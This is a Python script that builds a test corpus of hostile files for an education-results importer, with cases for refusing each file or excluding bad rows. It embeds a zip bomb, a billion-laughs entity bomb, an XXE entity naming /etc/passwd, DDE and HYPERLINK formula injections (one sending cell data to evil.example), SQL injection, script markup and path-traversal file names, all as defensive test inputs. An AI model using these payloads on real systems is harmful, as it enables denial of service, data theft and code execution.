"""The hostile corpus: files our importers must refuse, or import leaving out exactly the bad rows.

Every kind of file a careless or hostile user can give the results import, the registry import and the schedule
import: bombs and huge declared ranges, binaries under a spreadsheet's name, broken archives, wrong encodings,
formulas and markup in cells, impossible values, broken headers, hostile file names. Each file is small (nothing
over 1 MB: a zip bomb is small by nature; the row limit is met through a setting, see `Case.settings`).

Each file is described by a `Case`: its target (results, registry, schedule), the expected outcome (refused, or
imported with the named rows excluded) and what the message must name. The results files are the ВПР 2021
mathematics work of grade 4 (15 scoring columns with official maxima, total 20) of region 22, whose schools
sch220001 and sch220002 are in the registry (tests/conftest.py builds that world).

    python scripts/make_hostile_corpus.py OUT_DIR      # writes the files and cases.json
    from scripts.make_hostile_corpus import build      # build(folder) -> list[Case]
"""

from __future__ import annotations

import csv
import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path

import xlsxwriter

from objectivity.analysis.export_format import REGIONAL_LEADING

RESULTS, REGISTRY, SCHEDULE = "results", "registry", "schedule"
REFUSED, EXCLUDED = "refused", "excluded_rows"
MAX_FILE_BYTES = 1024 * 1024
# The kinds also run through a real `objectivity` process (bombs, huge ranges, binaries): it must end by itself.
HEAVY = {
    RESULTS: {"zip_bomb", "huge_declared_range", "sheets_60", "columns_200k_csv", "many_short_lines"}
    | {"xml_entity_bomb", "exe_as_xlsx"},
    REGISTRY: {"zip_bomb", "huge_declared_range", "columns_200k_csv", "garbage_xlsx"},
}


@dataclass(frozen=True)
class Cell:
    """A row (spreadsheet numbering, header = 1) and a column label the report must name. `excluding`: the row
    leaves the statistics (False: a warning only, the value is left out and the row stays)."""

    row: int
    column: str | None
    excluding: bool = True


@dataclass(frozen=True)
class Case:
    name: str  # the kind, unique within its target
    target: str  # results | registry | schedule
    expected: str  # refused | excluded_rows
    file: str  # the file's name in the corpus folder (as the command line gets it)
    upload_name: str = ""  # the name a browser sends when it differs (hostile names); else `file`
    cells: tuple[Cell, ...] = ()  # rows and columns the report must name
    mentions: tuple[str, ...] = ()  # fragments the (Russian) refusal must contain, such as the limit's setting
    heavy: bool = False  # also run through a real `objectivity` process: it must end by itself with code 0 or 1
    settings: tuple[tuple[str, int], ...] = ()  # settings the case runs under (a row limit met with a small file)
    note: str = ""  # what is hostile about it

    @property
    def id(self) -> str:
        return f"{self.target}-{self.name}"

    @property
    def sent_name(self) -> str:
        return self.upload_name or self.file


# ---- building blocks ---------------------------------------------------------------------------------------

WORK = "Проведение работы по математике, 4 класс. ВПР 2021"
MAXIMA = (1, 1, 2, 1, 1, 1, 1, 1, 1, 2, 1, 1, 2, 2, 2)  # ВПР 2021, математика, 4 класс (vpr-2021.yaml)
REGIONAL_HEADER = [
    *REGIONAL_LEADING,
    *[f"балл за {n}" for n in range(1, len(MAXIMA) + 1)],
    "Учебник",
]
TOTAL, LOGIN, CODE, VARIANT = 8, 0, 3, 7
SCHOOLS = ("sch220001", "sch220002")


def pupil(number: int, *, login: str | None = None, scores: Sequence[int] | None = None) -> list[str]:
    """A valid regional row: scores within the maxima, the total their sum."""
    scores = list(scores) if scores is not None else [(number + i) % (m + 1) for i, m in enumerate(MAXIMA)]
    return [
        login or SCHOOLS[number % 2],
        "СПО Демонстрационный край",
        str(number),
        str(40000 + number),
        str(2 + number % 4),
        "мж"[number % 2],
        "аб"[number % 2],
        str(1 + number % 2),
        str(sum(scores)),
        *map(str, scores),
        "Моро М.И. Математика 4 класс",
    ]


def pupils(n: int = 4) -> list[list[str]]:
    return [pupil(i) for i in range(1, n + 1)]


def spoil(column: int, value: str, row: int = 2, rows: list[list[str]] | None = None) -> list[list[str]]:
    """Pupils with one cell replaced; `row` is the spreadsheet row (the header is row 1)."""
    rows = rows or pupils()
    rows[row - 2][column] = value
    return rows


def task(n: int) -> int:
    return TOTAL + n  # column index of «балл за n»


def csv_bytes(
    rows: Iterable[Sequence[str]], *, delimiter: str = ";", encoding: str = "utf-8", newline: str = "\n"
) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(
    rows: Iterable[Sequence[object]], *, sheets: int = 1, formulas: dict | None = None, data_sheet: int = 0
) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    for index in range(sheets):
        sheet = book.add_worksheet(f"Лист{index + 1}")
        if index != data_sheet:
            continue
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value is not None:
                    sheet.write(r, c, value)
        for (r, c), (formula, cached) in (formulas or {}).items():
            sheet.write_formula(r, c, formula, None, cached)
    book.close()
    return buffer.getvalue()


def replace_parts(workbook: bytes, parts: dict[str, bytes | None], *, level: int = 6) -> bytes:
    """A copy of a workbook with some parts replaced (None removes a part), deflated as Excel does."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = parts.get(item.filename, source.read(item.filename))
            if data is not None:
                target.writestr(item.filename, data, compresslevel=level)
        for name, data in parts.items():
            if data is not None and name not in source.namelist():
                target.writestr(name, data, compresslevel=level)
    return out.getvalue()


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def inline_row(r: int, values: Sequence[str]) -> bytes:
    cells = b"".join(
        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (_letters(i + 1).encode(), r, v.encode())
        for i, v in enumerate(values)
    )
    return b'<row r="%d">%s</row>' % (r, cells)


def _letters(n: int) -> str:
    out = ""
    while n:
        n, rest = divmod(n - 1, 26)
        out = chr(65 + rest) + out
    return out


def sheet_xml(rows: Sequence[Sequence[str]], *, dimension: str | None = None, before: bytes = b"") -> bytes:
    dim = b'<dimension ref="%s"/>' % dimension.encode() if dimension else b""
    body = b"".join(inline_row(r, row) for r, row in enumerate(rows, start=1))
    return before + SHEET_HEAD + dim + b"<sheetData>" + body + b"</sheetData></worksheet>"


def stored_zip(parts: dict[str, bytes], *, flag_encrypted: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    data = out.getvalue()
    if flag_encrypted:  # set the «encrypted» bit of every local and central header (what ZipCrypto writes)
        raw = bytearray(data)
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (at := raw.find(signature, start)) >= 0:
                flags = struct.unpack_from("<H", raw, at + offset)[0]
                struct.pack_into("<H", raw, at + offset, flags | 1)
                start = at + 4
        data = bytes(raw)
    return data


OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")  # a compound file: an .xls, or an encrypted (password) .xlsx


def ole_file(streams: Sequence[str]) -> bytes:
    """The start of an OLE compound file naming its streams, as an .xls or a password-protected .xlsx begins."""
    header = OLE_MAGIC + bytes(16) + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + bytes(490)
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for name in streams)
    return header[:512] + names.ljust(1536, b"\xff")


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + bytes(64)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(48)
    + b"This program cannot be run in DOS mode."
)
GARBAGE = bytes((i * 131 + 7) % 256 for i in range(4096))


# ---- the cases ---------------------------------------------------------------------------------------------


@dataclass
class Corpus:
    folder: Path
    cases: list[Case] = field(default_factory=list)

    def add(self, target: str, name: str, expected: str, file: str, data: bytes, **details) -> None:
        if len(data) > MAX_FILE_BYTES:
            raise ValueError(f"{name}: {len(data)} bytes, the corpus keeps every file under 1 MB")
        sub = self.folder / target / name
        sub.mkdir(parents=True, exist_ok=True)
        (sub / file).write_bytes(data)
        cells = tuple(Cell(*c) if not isinstance(c, Cell) else c for c in details.pop("cells", ()))
        settings = tuple(sorted(details.pop("settings", {}).items()))
        case = Case(
            name=name,
            target=target,
            expected=expected,
            file=f"{target}/{name}/{file}",
            cells=cells,
            settings=settings,
            heavy=name in HEAVY.get(target, ()),
            **details,
        )
        self.cases.append(case)


RESULTS_XLSX, RESULTS_CSV = f"{WORK}.xlsx", f"{WORK}.csv"
SHEET1 = "xl/worksheets/sheet1.xml"


def results_book(rows, **kw) -> bytes:
    """A regional export workbook: the header, then `rows`."""
    return xlsx_bytes([REGIONAL_HEADER, *rows], **kw)


def results_text(rows, **kw) -> bytes:
    """The same as CSV."""
    return csv_bytes([REGIONAL_HEADER, *rows], **kw)


def _results(c: Corpus) -> None:
    """Results files, by family."""
    _results_exhaustion(c)
    _results_not_tables(c)
    _results_header(c)
    _results_names(c)
    _results_rows(c)
    _results_careless(c)


def _results_exhaustion(c: Corpus) -> None:
    """Results files: resource exhaustion."""
    add = c.add
    base = results_book(pupils())
    bomb = SHEET_HEAD + b"<sheetData>" + b" " * 40_000_000 + b"</sheetData></worksheet>"
    add(
        RESULTS,
        "zip_bomb",
        REFUSED,
        RESULTS_XLSX,
        replace_parts(base, {SHEET1: bomb}, level=9),
        mentions=("FILE_LIMITS_MAX_RATIO",),
        note="a sheet of 40 MB of blanks packed into ~40 KB",
    )
    add(
        RESULTS,
        "huge_declared_range",
        REFUSED,
        RESULTS_XLSX,
        replace_parts(base, {SHEET1: sheet_xml([REGIONAL_HEADER], dimension="A1:XFD1048576")}),
        mentions=("FILE_LIMITS_MAX_CELLS",),
        note="a sheet declaring 17 billion cells",
    )
    add(
        RESULTS,
        "huge_declared_rows",
        REFUSED,
        RESULTS_XLSX,
        replace_parts(base, {SHEET1: sheet_xml([REGIONAL_HEADER], dimension="A1:Z5000000")}),
        note="a sheet declaring 5 million rows",
    )
    add(
        RESULTS,
        "sheets_60",
        REFUSED,
        RESULTS_XLSX,
        results_book(pupils(), sheets=60),
        mentions=("FILE_LIMITS_MAX_SHEETS",),
        note="60 sheets",
    )
    add(
        RESULTS,
        "columns_200k_csv",
        REFUSED,
        RESULTS_CSV,
        (";".join(["x"] * 200_000) + "\n").encode(),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
        note="a CSV line of 200,000 columns",
    )
    add(
        RESULTS,
        "columns_5000_xlsx",
        REFUSED,
        RESULTS_XLSX,
        results_book([[str(i) for i in range(5000)]]),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
        note="a workbook of 5,000 columns, no declared range",
    )
    far = replace_parts(
        base,
        {
            SHEET1: SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t>'
            b'</is></c><c r="XFD1" t="inlineStr"><is><t>y</t></is></c></row>'
            b"</sheetData></worksheet>"
        },
    )
    add(
        RESULTS,
        "sparse_far_cell",
        REFUSED,
        RESULTS_XLSX,
        far,
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
        note="two cells, A1 and XFD1: the reader would allocate 16,384 columns",
    )
    add(
        RESULTS,
        "many_short_lines",
        REFUSED,
        RESULTS_CSV,
        b"x\n" * 30_000,
        settings={"RESULTS_MAX_ROWS": 10_000},
        note="more lines than the row limit (the limit lowered by a setting so the file stays small)",
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lolololololololololol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
        )
        + b"]>"
    )
    entity_sheet = (
        laughs
        + SHEET_HEAD[len(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') :]
        + (b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    )
    add(
        RESULTS,
        "xml_entity_bomb",
        REFUSED,
        RESULTS_XLSX,
        replace_parts(base, {SHEET1: entity_sheet}),
        note="«billion laughs»: nested XML entities in the sheet",
    )
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + SHEET_HEAD[len(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') :]
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    add(
        RESULTS,
        "xml_external_entity",
        REFUSED,
        RESULTS_XLSX,
        replace_parts(base, {SHEET1: xxe}),
        note="an external entity naming /etc/passwd: its text must never reach the data",
    )


def _results_not_tables(c: Corpus) -> None:
    """Results files: not a workbook / not a table."""
    add = c.add
    base = results_book(pupils())
    add(RESULTS, "empty_csv", REFUSED, RESULTS_CSV, b"", note="0 bytes")
    add(RESULTS, "zero_byte_xlsx", REFUSED, RESULTS_XLSX, b"", note="0 bytes named .xlsx")
    add(RESULTS, "garbage_xlsx", REFUSED, RESULTS_XLSX, GARBAGE, note="random bytes named .xlsx")
    add(RESULTS, "pdf_as_xlsx", REFUSED, RESULTS_XLSX, PDF, note="a PDF renamed to .xlsx")
    add(RESULTS, "png_as_csv", REFUSED, RESULTS_CSV, PNG, note="a PNG renamed to .csv")
    add(RESULTS, "exe_as_xlsx", REFUSED, RESULTS_XLSX, EXE, note="a Windows program renamed to .xlsx")
    add(RESULTS, "exe_as_csv", REFUSED, RESULTS_CSV, EXE, note="a Windows program renamed to .csv")
    add(RESULTS, "truncated_xlsx", REFUSED, RESULTS_XLSX, base[: len(base) // 2], note="a workbook cut in half")
    add(
        RESULTS,
        "encrypted_zip",
        REFUSED,
        RESULTS_XLSX,
        stored_zip({"xl/worksheets/sheet1.xml": sheet_xml([REGIONAL_HEADER])}, flag_encrypted=True),
        note="a zip with encrypted parts",
    )
    add(
        RESULTS,
        "password_xlsx",
        REFUSED,
        RESULTS_XLSX,
        ole_file(["EncryptionInfo", "EncryptedPackage"]),
        note="a password-protected workbook (an OLE container)",
    )
    add(
        RESULTS,
        "xls_as_xlsx",
        REFUSED,
        RESULTS_XLSX,
        ole_file(["Workbook", "SummaryInformation"]),
        note="an old binary .xls renamed to .xlsx",
    )
    chart_only = replace_parts(base, {SHEET1: None, "xl/chartsheets/sheet1.xml": b"<chartsheet/>"})
    add(RESULTS, "chart_sheet_only", REFUSED, RESULTS_XLSX, chart_only, note="a workbook with only a chart sheet")
    add(
        RESULTS,
        "zip_not_workbook",
        REFUSED,
        RESULTS_XLSX,
        stored_zip({"readme.txt": b"hello"}),
        note="a zip archive that is no workbook",
    )
    broken_xml = replace_parts(base, {SHEET1: SHEET_HEAD + b"<sheetData><row r="})
    add(RESULTS, "broken_sheet_xml", REFUSED, RESULTS_XLSX, broken_xml, note="a sheet whose XML breaks off")
    add(
        RESULTS,
        "utf16_csv",
        EXCLUDED,
        RESULTS_CSV,
        "\ufeff".encode("utf-16-le") + results_text(spoil(LOGIN, "СОШ 5"), delimiter="\t").decode().encode("utf-16-le"),
        cells=[(2, "логин школы")],
        note="Excel's «Unicode text»: UTF-16 with a BOM, tab-separated",
    )
    add(
        RESULTS,
        "nul_bytes_csv",
        REFUSED,
        RESULTS_CSV,
        results_text(pupils()).replace(b"\n", b"\x00\n", 2),
        note="NUL bytes",
    )
    add(
        RESULTS,
        "nul_after_8k_csv",
        REFUSED,
        RESULTS_CSV,
        results_text(pupils(100)) + b"sch220001;\x00;\x00\n",
        note="NUL bytes past the first 8 KB",
    )
    add(
        RESULTS,
        "unknown_encoding_csv",
        REFUSED,
        RESULTS_CSV,
        results_text(pupils()) + b"\x98\x98\x81\n",
        note="bytes that are neither UTF-8 nor Windows-1251",
    )
    add(
        RESULTS,
        "unbalanced_quote_csv",
        REFUSED,
        RESULTS_CSV,
        results_text(pupils()).replace(b"sch220002", b'"sch220002', 1),
        note="an opening quote that never closes swallows the rest of the file",
    )
    add(RESULTS, "docx_extension", REFUSED, f"{WORK}.docx", b"PK\x03\x04", note="an unsupported extension")
    add(RESULTS, "no_extension", REFUSED, WORK, results_text(pupils()), note="a file without an extension")
    add(
        RESULTS,
        "first_sheet_empty",
        REFUSED,
        RESULTS_XLSX,
        xlsx_bytes([REGIONAL_HEADER, *pupils()], sheets=2, data_sheet=1),
        note="the first sheet is empty, the data on the second",
    )
    add(RESULTS, "only_delimiters_csv", REFUSED, RESULTS_CSV, b";;;;\n;;;;\n \n", note="lines of delimiters and blanks")


def _results_header(c: Corpus) -> None:
    """Results files: structure: header."""
    add = c.add
    add(RESULTS, "header_only", REFUSED, RESULTS_CSV, results_text([]), note="a header and no rows")
    add(
        RESULTS,
        "header_only_xlsx",
        REFUSED,
        RESULTS_XLSX,
        results_book([]),
        note="a workbook with a header and no rows",
    )
    add(RESULTS, "header_missing", REFUSED, RESULTS_CSV, csv_bytes(pupils()), note="rows without a header")
    add(
        RESULTS,
        "header_below_search",
        REFUSED,
        RESULTS_CSV,
        csv_bytes([["Выгрузка"]] * 20 + [REGIONAL_HEADER, *pupils()]),
        note="the header under 20 title lines",
    )
    add(
        RESULTS,
        "header_required_missing",
        REFUSED,
        RESULTS_CSV,
        csv_bytes(
            [[h for h in REGIONAL_HEADER if h != "вариант"], *[r[:VARIANT] + r[VARIANT + 1 :] for r in pupils()]]
        ),
        mentions=("вариант",),
        note="the «вариант» column is missing",
    )
    dup_total = [*REGIONAL_HEADER[:9], "всего баллов", *REGIONAL_HEADER[9:]]
    add(
        RESULTS,
        "duplicate_total_column",
        REFUSED,
        RESULTS_CSV,
        csv_bytes([dup_total, *[[*r[:9], "0", *r[9:]] for r in pupils()]]),
        mentions=("всего баллов",),
        note="two «всего баллов» columns: which one is meant?",
    )
    dup_task = [*REGIONAL_HEADER, "балл за 3"]
    add(
        RESULTS,
        "duplicate_task_column",
        REFUSED,
        RESULTS_CSV,
        csv_bytes([dup_task, *[[*r, "1"] for r in pupils()]]),
        mentions=("балл за 3",),
        note="«балл за 3» twice",
    )
    add(
        RESULTS,
        "task_columns_missing",
        REFUSED,
        RESULTS_CSV,
        csv_bytes([REGIONAL_HEADER[:-3] + REGIONAL_HEADER[-1:], *[r[:-3] + r[-1:] for r in pupils()]]),
        note="13 scoring columns where the work has 15",
    )
    add(
        RESULTS,
        "title_unknown_work",
        REFUSED,
        "выгрузка.csv",
        results_text(pupils()),
        note="neither the name nor a title says which work",
    )
    add(
        RESULTS,
        "school_export_bad_maximum",
        REFUSED,
        "Индивидуальные результаты ВПР 2023 Математика 4 класс.csv",
        csv_bytes(
            [
                ["ВПР 2023 Математика 4 класс"],
                ["МБОУ СОШ № 1 (sch220001) | Кол-во участников: 2"],
                ["ОО", "Код участника", "Класс", "Вариант", "1 (99б)", "2 (1б)", "Первичный балл", "Отметка"],
                ["sch220001", "40001", "4а", "1", "1", "1", "2", "3"],
            ]
        ),
        mentions=("99",),
        note="a task header «1 (99б)»",
    )
    add(
        RESULTS,
        "school_export_unknown_school",
        REFUSED,
        "Индивидуальные результаты ВПР 2023 Математика 4 класс.csv",
        csv_bytes(
            [
                ["ВПР 2023 Математика 4 класс"],
                ["МБОУ СОШ № 9 (sch229999) | Кол-во участников: 1"],
                ["ОО", "Код участника", "Класс", "Вариант", "1 (1б)", "2 (1б)", "Первичный балл", "Отметка"],
                ["sch229999", "40001", "4а", "1", "1", "1", "2", "3"],
            ]
        ),
        mentions=("sch229999",),
        note="a school export of a school the registry does not know",
    )


def _results_names(c: Corpus) -> None:
    """Results files: hostile names (the browser sends them; the command line gets a file on disk)."""
    add = c.add
    base = results_book(pupils())
    add(
        RESULTS,
        "name_path_traversal",
        REFUSED,
        "passwd.xlsx",
        base,
        upload_name="../../../../etc/passwd.xlsx",
        note="a name climbing out of the upload folder",
    )
    add(
        RESULTS,
        "name_with_nul",
        REFUSED,
        "evil.xlsx",
        base,
        upload_name="evil\x00.xlsx",
        note="a name with a NUL character",
    )
    add(
        RESULTS,
        "name_300_chars",
        REFUSED,
        "Ж" * 120 + ".csv",
        results_text(pupils()),
        upload_name="Ж" * 300 + ".csv",
        note="a 300-character name",
    )
    add(
        RESULTS,
        "name_markup",
        REFUSED,
        "script.csv",
        results_text(pupils()),
        upload_name="<script>alert(1)</script>.csv",
        note="markup in the name",
    )
    add(
        RESULTS,
        "name_rtl_override",
        REFUSED,
        "report.csv",
        results_text(pupils()),
        upload_name="отчёт\u202excsl.csv",
        note="a right-to-left override hiding the real extension",
    )


def _results_rows(c: Corpus) -> None:
    """Results files: rows: cells and values (excluded with row and column named)."""
    add = c.add
    add(
        RESULTS,
        "formula_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "=1+1")),
        cells=[(2, "логин школы")],
        note="a formula as a login",
    )
    add(
        RESULTS,
        "formula_hyperlink_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(CODE, '=HYPERLINK("http://evil.example/?"&A1,"нажмите")')),
        cells=[(2, "код обучающегося")],
        note="a link formula as a participant code",
    )
    add(
        RESULTS,
        "formula_dde_score",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(task(1), "+cmd|' /C calc'!A0")),
        cells=[(2, "балл за 1")],
        note="a DDE payload as a score",
    )
    add(
        RESULTS,
        "formula_at_total",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(TOTAL, "@SUM(1+1)*cmd|' /C calc'!A0")),
        cells=[(2, "всего баллов")],
        note="an @-formula as the total",
    )
    add(
        RESULTS,
        "formula_cells_xlsx",
        EXCLUDED,
        RESULTS_XLSX,
        results_book(pupils(), formulas={(1, LOGIN): ('=HYPERLINK("http://evil.example","sch220001")', "=evil")}),
        cells=[(2, "логин школы")],
        note="a real formula cell whose cached value is text",
    )
    add(
        RESULTS,
        "html_script_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(CODE, "<script>alert(document.cookie)</script>")),
        cells=[(2, "код обучающегося")],
        note="markup as a participant code",
    )
    add(
        RESULTS,
        "sql_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "sch220001'; DROP TABLE orgs_school; --")),
        cells=[(2, "логин школы")],
        note="SQL in a login",
    )
    add(
        RESULTS,
        "sql_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(CODE, "1 OR 1=1; --")),
        cells=[(2, "код обучающегося")],
        note="SQL as a participant code",
    )
    add(
        RESULTS,
        "cell_100k",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(CODE, "4" * 100_000)),
        cells=[(2, "код обучающегося")],
        note="a 100 KB participant code",
    )
    add(
        RESULTS,
        "cell_100k_xlsx",
        EXCLUDED,
        RESULTS_XLSX,
        results_book(spoil(LOGIN, "sch" + "я" * 100_000)),
        cells=[(2, "логин школы")],
        note="a 100 KB login in a workbook",
    )
    add(
        RESULTS,
        "very_long_line",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "x" * 300_000, row=3)),
        cells=[(3, "логин школы")],
        note="a 300 KB line",
    )
    add(
        RESULTS,
        "other_region_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "sch540001")),
        cells=[(2, "логин школы")],
        note="a school of another region",
    )
    add(
        RESULTS,
        "malformed_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "СОШ №5")),
        cells=[(2, "логин школы")],
        note="a school name where the login belongs",
    )
    add(
        RESULTS,
        "homoglyph_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "s\u0441h220001")),
        cells=[(2, "логин школы")],
        note="a Cyrillic «с» inside a Latin login",
    )
    add(
        RESULTS,
        "zero_width_login",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(LOGIN, "sch220001\u200b")),
        cells=[(2, "логин школы")],
        note="a zero-width space after the login",
    )
    dup = pupils()
    dup[2][CODE] = dup[0][CODE]
    dup[2][LOGIN] = dup[0][LOGIN]
    add(
        RESULTS,
        "duplicate_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(dup),
        cells=[(4, "код обучающегося")],
        note="a participant code twice in one school",
    )
    add(
        RESULTS,
        "empty_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(spoil(CODE, "")),
        cells=[(2, "код обучающегося")],
        note="no participant code",
    )
    for name, value, column, note in (
        ("score_negative", "-1", "балл за 1", "a negative score"),
        ("score_huge", "99999", "балл за 1", "a score far above the task's maximum"),
        ("score_above_max", "2", "балл за 1", "2 points for a 1-point task"),
        ("score_fraction_comma", "1,5", "балл за 3", "a decimal comma"),
        ("score_fraction_dot", "0.5", "балл за 3", "a decimal point"),
        ("score_exponent", "1e0", "балл за 1", "an exponent"),
        ("score_minus_zero", "-0", "балл за 1", "«-0»"),
        ("score_plus_sign", "+1", "балл за 1", "a plus sign"),
        ("score_arabic_indic", "\u0661", "балл за 1", "an Arabic-Indic digit one"),
        ("score_superscript", "\u00b9", "балл за 1", "a superscript one"),
        ("score_fullwidth", "\uff11", "балл за 1", "a full-width digit one"),
        ("score_overflow", "9" * 30, "балл за 1", "a number beyond 64 bits"),
    ):
        column_index = task(int(column.split()[-1]))
        add(
            RESULTS,
            name,
            EXCLUDED,
            RESULTS_CSV,
            results_text(spoil(column_index, value)),
            cells=[(2, column)],
            note=note,
        )
    for name, value, note in (
        ("total_negative", "-3", "a negative total"),
        ("total_huge", "100000", "a total above any work's maximum"),
        ("total_above_max", "21", "a total above the work's maximum of 20"),
        ("total_fraction", "7,5", "a fractional total"),
        ("total_exponent", "1e3", "«1e3»"),
        ("total_minus_zero", "-0", "«-0»"),
        ("total_arabic_indic", "\u0667", "an Arabic-Indic digit"),
        ("total_superscript", "\u00b2", "«²»"),
        ("total_nan", "NaN", "«NaN»"),
        ("total_hex", "0x10", "a hexadecimal number"),
    ):
        add(
            RESULTS,
            name,
            EXCLUDED,
            RESULTS_CSV,
            results_text(spoil(TOTAL, value)),
            cells=[(2, "всего баллов")],
            note=note,
        )
    mismatch = pupils()
    mismatch[1][TOTAL] = str(int(mismatch[1][TOTAL]) + 1)
    add(
        RESULTS,
        "total_mismatch",
        EXCLUDED,
        RESULTS_CSV,
        results_text(mismatch),
        cells=[(3, "всего баллов")],
        note="a total that is not the sum of the scores",
    )
    absent = pupils()
    absent[0][VARIANT] = "отсутствовал"
    absent[0][TOTAL] = ""
    add(
        RESULTS,
        "absent_with_scores",
        EXCLUDED,
        RESULTS_CSV,
        results_text(absent),
        cells=[(2, "вариант")],
        note="marked absent, yet scored",
    )
    absent_total = pupils()
    absent_total[0][VARIANT] = "отсутствовал"
    add(
        RESULTS,
        "absent_with_total",
        EXCLUDED,
        RESULTS_CSV,
        results_text(absent_total),
        cells=[(2, "вариант")],
        note="marked absent, yet a total",
    )
    no_total = pupils()
    no_total[1][TOTAL] = ""
    add(
        RESULTS,
        "present_without_total",
        EXCLUDED,
        RESULTS_CSV,
        results_text(no_total),
        cells=[(3, "всего баллов")],
        note="a variant and scores, but no total",
    )
    codes = pupils()
    codes[0][task(2)] = "H"
    codes[0][TOTAL] = str(sum(int(v) for i, v in enumerate(codes[0][task(1) : task(16)]) if i != 1))
    add(
        RESULTS,
        "unknown_task_code",
        EXCLUDED,
        RESULTS_CSV,
        results_text(codes),
        cells=[(2, "балл за 2", False)],
        note="«H» in a task column: counted as not attempted, with a warning",
    )
    add(
        RESULTS,
        "footer_junk",
        EXCLUDED,
        RESULTS_CSV,
        results_text(pupils()) + "Итого строк: 4\n-- конец выгрузки --\n".encode(),
        cells=[(6, None, False), (7, None, False)],
        note="lines after the data",
    )
    concatenated = [*pupils(2), REGIONAL_HEADER, *pupils(2)[::-1]]
    add(
        RESULTS,
        "concatenated_exports",
        EXCLUDED,
        RESULTS_CSV,
        results_text(concatenated),
        cells=[(4, "логин школы"), (5, "код обучающегося"), (6, "код обучающегося")],
        note="two exports pasted together: the second header is a row, the second pupils repeat the first",
    )
    ragged = pupils()
    ragged[1] = ragged[1][:12]
    add(
        RESULTS,
        "ragged_rows",
        EXCLUDED,
        RESULTS_CSV,
        results_text(ragged),
        cells=[(3, "всего баллов")],
        note="a row cut short after «балл за 3»",
    )
    mixed = results_text(pupils(2)) + csv_bytes(pupils(4)[2:], delimiter=",")
    add(
        RESULTS,
        "mixed_delimiters",
        EXCLUDED,
        RESULTS_CSV,
        mixed,
        cells=[(4, "логин школы"), (5, "логин школы")],
        note="the last rows separated by commas",
    )
    add(
        RESULTS,
        "columns_on_a_later_line",
        REFUSED,
        RESULTS_CSV,
        results_text(pupils(2)) + (";".join(["1"] * 200_000) + "\n").encode(),
        mentions=("FILE_LIMITS_MAX_COLUMNS",),
        note="an ordinary header, then a line of 200,000 columns",
    )
    add(
        RESULTS,
        "blank_row_inside_xlsx",
        EXCLUDED,
        RESULTS_XLSX,
        results_book([*pupils(2), [], ["", "  "], pupil(3, login="СОШ 5"), pupil(4)]),
        cells=[(6, "логин школы")],
        note="blank rows between the pupils (no pupils; the rows after them keep their numbers)",
    )
    add(
        RESULTS,
        "name_long_cyrillic",
        EXCLUDED,
        WORK + " (" + "выгрузка " * 9 + ").csv",
        results_text(spoil(LOGIN, "СОШ 5")),
        cells=[(2, "логин школы")],
        note="a long Cyrillic name (about 240 bytes) that still names the work",
    )


def _results_careless(c: Corpus) -> None:
    """Results files: careless but readable files: the quirk is tolerated and the one bad row is still found at its line."""
    add = c.add
    careless = spoil(LOGIN, "СОШ 5", row=3)
    add(
        RESULTS,
        "bom_crlf_csv",
        EXCLUDED,
